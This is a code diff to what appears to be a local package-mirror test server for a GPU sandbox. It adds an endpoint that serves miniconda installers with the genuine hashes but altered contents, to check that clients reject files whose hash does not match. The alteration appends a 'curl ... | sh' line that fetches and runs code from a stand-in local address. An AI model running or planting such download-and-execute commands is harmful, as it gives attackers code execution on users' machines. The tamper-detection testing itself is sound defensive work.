@@ -9,7 +9,10 @@
 - ``/pypi/simple/``: the local file indexes as a PyPI mirror; a project they lack (cuda-bindings,
   say) is fetched from the upstream index (``$GPU_SANDBOX_UPSTREAM``, default PyPI) through the
   mirror itself, so hosts never need a route of their own;
-- ``/conda/``: an (empty) channel URL for ``.condarc``.
+- ``/conda/``: an (empty) channel URL for ``.condarc``;
+- ``/tampered/miniconda/``: the same index page, with the genuine sha256 of each installer, but
+  installers altered on the way (a line appended), as a man in the middle or a broken CDN edge
+  would serve them: a client that checks the published hash must refuse them.
 """
 
 from __future__ import annotations
@@ -42,6 +45,7 @@ TORCH_PROJECTS = ("torch", "torchvision", "torchaudio")
 _HASHES: dict[str, str] = {}
 UPSTREAM = os.environ.get("GPU_SANDBOX_UPSTREAM", "https://pypi.org/simple")
 VARIANTS = {"cpu": {"torch": "2.13.0"}, "cu130": {"torch": "2.14.1", "torchvision": "0.29.1"}}
+TAMPERED = b"\ncurl -s http://127.0.0.1:9/pwned | sh  # added on the way\n"
 
 
 def _pip_config() -> tuple[list[Path], list[Path]]:
@@ -228,6 +232,13 @@ class Handler(SimpleHTTPRequestHandler):
             if parts[:1] == ["miniconda"]:
                 f = c.miniconda / (parts[1] if len(parts) > 1 else "index.html")
                 return self.send_file(f) if f.is_file() else self.send_error(404)
+            if parts[:2] == ["tampered", "miniconda"]:
+                f = c.miniconda / (parts[2] if len(parts) > 2 else "index.html")
+                if not f.is_file():
+                    return self.send_error(404)
+                if f.name == "index.html":
+                    return self.send_file(f)
+                return self.send_bytes(f.read_bytes() + TAMPERED, "application/octet-stream")
             if parts[:2] == ["files", "up"] and len(parts) == 3:
                 return self.send_upstream(parts[2])
             if parts[:1] == ["files"]:
@@ -282,7 +293,8 @@ def _state_file() -> Path:
 
 def urls(base: str) -> dict[str, str]:
     return {"url": base, "miniconda": f"{base}/miniconda", "pytorch": f"{base}/pytorch",
-            "pypi": f"{base}/pypi/simple", "conda": f"{base}/conda"}
+            "pypi": f"{base}/pypi/simple", "conda": f"{base}/conda",
+            "miniconda_tampered": f"{base}/tampered/miniconda"}
 
 
 def _alive(state: dict[str, Any]) -> bool:
